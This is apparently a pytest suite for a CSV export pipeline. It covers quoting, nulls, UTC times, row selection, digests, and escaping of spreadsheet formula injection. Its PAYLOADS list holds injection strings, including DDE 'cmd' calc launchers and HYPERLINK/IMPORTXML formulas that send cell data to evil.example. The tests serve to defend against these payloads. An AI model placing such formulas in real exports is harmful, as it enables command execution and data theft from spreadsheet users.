"""Delivered CSV: what every reader makes of it is what is in the warehouse, and no spreadsheet runs it."""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import pandas
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.orchestration_builders import (
    DAILY_METRICS,
    EVENTS,
    HOUR,
    SESSIONS,
    add_event,
    client,
    warehouse,
)

from footfall.catalogue.formats import CSV
from footfall.catalogue.tables import DATASETS
from orchestration.delivery.datasets import columns
from orchestration.delivery.digests import Digests
from orchestration.delivery.render import render
from orchestration.delivery.selection import select

OWNER = client()


def _rendered(connection, tmp_path, export=EVENTS, start=HOUR, owner=OWNER):
    selection = select(connection, owner, export, "ab" * 16)
    rendered = render(connection, selection, start, "folder/", tmp_path)
    return rendered.delivered, rendered.paths[0].read_bytes()


def digests(connection, owner, export, since=None):
    return Digests(connection, since).of(select(connection, owner, export, ""))


def _titles(connection, tmp_path):
    """The title cells as Python's csv reads them, in order of event."""
    _, data = _rendered(connection, tmp_path)
    return [row["title"] for row in csv.DictReader(io.StringIO(data.decode(), newline=""))]


def _unguarded(cell):
    """What a reader does with a cell, after the manifest's dialect."""
    return re.sub(r"\A'('*[=+\-@\t\r\n＝＋－＠])", r"\1", cell)


def test_null_is_an_empty_cell_and_an_empty_string_is_quoted(connection, tmp_path):
    add_event(connection, "event-0001", title=None)
    add_event(connection, "event-0002", title="")

    _, data = _rendered(connection, tmp_path)

    first, second = data.decode().splitlines()[1:]
    assert first.startswith("demo,shop,event-0001,,,")
    assert second.startswith('demo,shop,event-0002,"",,')
    assert (CSV.dialect["null"], CSV.dialect["empty_string"]) == ("", '""')


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        ('say "hi"', '"say ""hi"""'),
        ("a,b", '"a,b"'),
        ("two\nlines", '"two\nlines"'),
        ("old\rmac", '"old\rmac"'),
        ("Smörgåsbord 🧁 日本", "Smörgåsbord 🧁 日本"),
        (" led by a space ", " led by a space "),
        ("NULL", "NULL"),
        ("back\\slash", "back\\slash"),
        ("semi;colon", "semi;colon"),
    ],
)
def test_text_is_written_as_the_dialect_says(connection, tmp_path, title, cell):
    add_event(connection, "event-0001", title=title)

    rows, data = _rendered(connection, tmp_path)

    assert rows == 1
    assert f"event-0001,{cell}," in data.decode("utf-8")
    assert not data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" not in data


def test_times_are_utc_with_milliseconds(connection, tmp_path):
    connection.execute("SET TimeZone = 'Asia/Tokyo'")
    connection.execute(
        "INSERT INTO main.sessions VALUES ('demo', 'shop', 's1', 1, ?, ?)",
        [datetime(2026, 11, 20, 13, 5, 6, 789999, UTC), HOUR],
    )

    _, data = _rendered(connection, tmp_path, SESSIONS)

    assert data.decode().splitlines()[1] == "demo,shop,s1,1,2026-11-20T13:05:06.789Z,2026-11-20T14:00:00.000Z"


def test_a_day_is_a_date(connection, tmp_path):
    connection.execute("INSERT INTO main.daily_metrics VALUES ('demo', 'shop', ?, 5)", [date(2026, 11, 20)])

    rows, data = _rendered(connection, tmp_path, DAILY_METRICS, OWNER.local_midnight("2026-11-20"))

    assert (rows, data) == (1, b"client_id,site_id,date,visitors\ndemo,shop,2026-11-20,5\n")


def test_a_session_belongs_to_the_hour_in_which_it_closed(connection, tmp_path):
    for n, minutes in enumerate((-1, 0, 59, 60)):
        connection.execute(
            "INSERT INTO main.sessions VALUES ('demo', 'shop', ?, 1, ?, ?)",
            [f"s{n}", HOUR - timedelta(hours=5), HOUR + timedelta(minutes=minutes)],
        )

    _, data = _rendered(connection, tmp_path, SESSIONS)

    assert [line.split(",")[2] for line in data.decode().splitlines()[1:]] == ["s1", "s2"]


def test_rows_are_those_of_the_client_and_the_period_and_no_others(connection, tmp_path):
    add_event(connection, "event-0001")
    add_event(connection, "event-0002", client_id="agency")
    add_event(connection, "event-0003", hour=HOUR + timedelta(hours=1))

    rows, data = _rendered(connection, tmp_path)

    assert rows == 1
    assert b"event-0001" in data


def test_the_order_of_rows_does_not_depend_on_the_order_they_came_in(connection, tmp_path):
    ids = [f"event-{n:04d}" for n in (3, 1, 2)]
    for event_id in ids:
        add_event(connection, event_id)
    _, first = _rendered(connection, tmp_path)
    connection.execute("DELETE FROM main.events")
    for event_id in reversed(ids):
        add_event(connection, event_id)

    _, second = _rendered(connection, tmp_path)

    assert first == second
    assert [line.split(",")[2] for line in first.decode().splitlines()[1:]] == sorted(ids)


def test_the_same_data_gives_the_same_bytes(connection, tmp_path):
    for n in range(500):
        add_event(connection, f"event-{n:04d}", title=f"{n},\n", amount=n / 7)

    assert _rendered(connection, tmp_path) == _rendered(connection, tmp_path)


#: Text that a spreadsheet would run, or might; beside it, text that looks alike and is harmless.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
    "=WEBSERVICE(A1)",
    '=DDE("cmd";"/C calc";"!A0")',
    "==1",
    "=",
    "=@SUM(A1)",
    "=\n1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "--1",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "@=1",
    "\t=1+1",
    "\t",
    "\t\t@SUM(A1)",
    "\r=1+1",
    "\r",
    "\r\n=1+1",
    "\n=1+1",
    "\n",
    "\n\n-1",
    "=1,2",
    '="quoted"',
    '+"quoted",and more',
    "-ünï",
    "'=1",
    "''+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'＝1",
    "'\t1",
]
HARMLESS = ["1=1", "a+b", "a-b", "user@mail.example", " =1", "'", "''", "'quoted'", "#REF!", "a\t=1", "é=1"]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_text_that_a_spreadsheet_would_run_has_an_apostrophe_in_front(connection, tmp_path, payload):
    add_event(connection, "event-0001", title=payload)

    [cell] = _titles(connection, tmp_path)

    assert cell == "'" + payload
    assert _unguarded(cell) == payload


@pytest.mark.parametrize("text", HARMLESS, ids=repr)
def test_harmless_text_stays_as_it_is(connection, tmp_path, text):
    add_event(connection, "event-0001", title=text)

    assert _titles(connection, tmp_path) == [text]


@pytest.mark.parametrize("number", [-5.0, -0.5, 1e20, -1e-7])
def test_numbers_are_never_guarded(connection, tmp_path, number):
    add_event(connection, "event-0001", amount=number)

    _, data = _rendered(connection, tmp_path)

    assert b"'" not in data
    assert float(data.decode().splitlines()[1].split(",")[4]) == number


_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


@settings(max_examples=40, deadline=None)
@given(titles=st.lists(st.none() | _TEXT | st.sampled_from(PAYLOADS + HARMLESS), min_size=1, max_size=20))
def test_any_text_comes_back_through_python_and_through_pandas(tmp_path_factory, titles):
    folder = tmp_path_factory.mktemp("csv")
    with warehouse() as connection:
        for n, title in enumerate(titles):
            add_event(connection, f"event-{n:04d}", title=title, amount=-n / 3)

        rows, data = _rendered(connection, folder)

        read = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
        assert rows == len(read) == len(titles)
        assert [_unguarded(row["title"]) for row in read] == [title or "" for title in titles]
        frame = pandas.read_csv(io.BytesIO(data), keep_default_na=False, dtype={"title": str})
        assert [_unguarded(cell) for cell in frame["title"]] == [title or "" for title in titles]
        assert list(frame["amount"]) == pytest.approx([-n / 3 for n in range(len(titles))])
        again = connection.execute(
            "SELECT title FROM read_csv(?, header = true, nullstr = '', all_varchar = true, "
            "delim = ',', quote = '\"', escape = '\"', allow_quoted_nulls = false) ORDER BY event_id",
            [str(folder / "all.0")],
        ).fetchall()
        assert [cell if cell is None else _unguarded(cell) for (cell,) in again] == titles


def test_the_digest_of_a_period_changes_with_any_of_its_rows_and_with_no_other(connection):
    for n in range(3):
        add_event(connection, f"event-{n:04d}", hour=HOUR + timedelta(hours=n % 2))
    before = digests(connection, OWNER, EVENTS)
    assert set(before) == {HOUR, HOUR + timedelta(hours=1)}

    connection.execute("UPDATE main.events SET title = NULL WHERE event_id = 'event-0001'")
    add_event(connection, "event-0009", client_id="agency")
    after = digests(connection, OWNER, EVENTS)

    assert after[HOUR] == before[HOUR]
    assert after[HOUR + timedelta(hours=1)] != before[HOUR + timedelta(hours=1)]


def test_the_digest_does_not_depend_on_the_order_of_rows(connection):
    for n in range(3):
        add_event(connection, f"event-{n:04d}")
    before = digests(connection, OWNER, EVENTS)
    connection.execute(
        "CREATE TABLE reversed AS SELECT * FROM main.events ORDER BY event_id DESC; "
        "DELETE FROM main.events; INSERT INTO main.events FROM reversed"
    )

    assert digests(connection, OWNER, EVENTS) == before


def test_two_rows_that_are_alike_are_not_none(connection):
    """An exclusive or alone would take them for nothing."""
    add_event(connection, "event-0001")
    before = digests(connection, OWNER, EVENTS)
    add_event(connection, "event-0002")
    add_event(connection, "event-0002")

    assert digests(connection, OWNER, EVENTS) != before


def test_days_are_digested_by_the_clients_midnight(connection):
    berlin = client(timezone="Europe/Berlin")
    connection.execute("INSERT INTO main.daily_metrics VALUES ('demo', 'shop', '2026-11-20', 5)")

    assert set(digests(connection, berlin, DAILY_METRICS)) == {datetime(2026, 11, 19, 23, tzinfo=UTC)}


def test_columns_come_in_the_order_of_the_table(connection):
    assert columns(connection, DATASETS["daily_metrics"]) == [
        ("client_id", "VARCHAR"),
        ("site_id", "VARCHAR"),
        ("date", "DATE"),
        ("visitors", "BIGINT"),
    ]
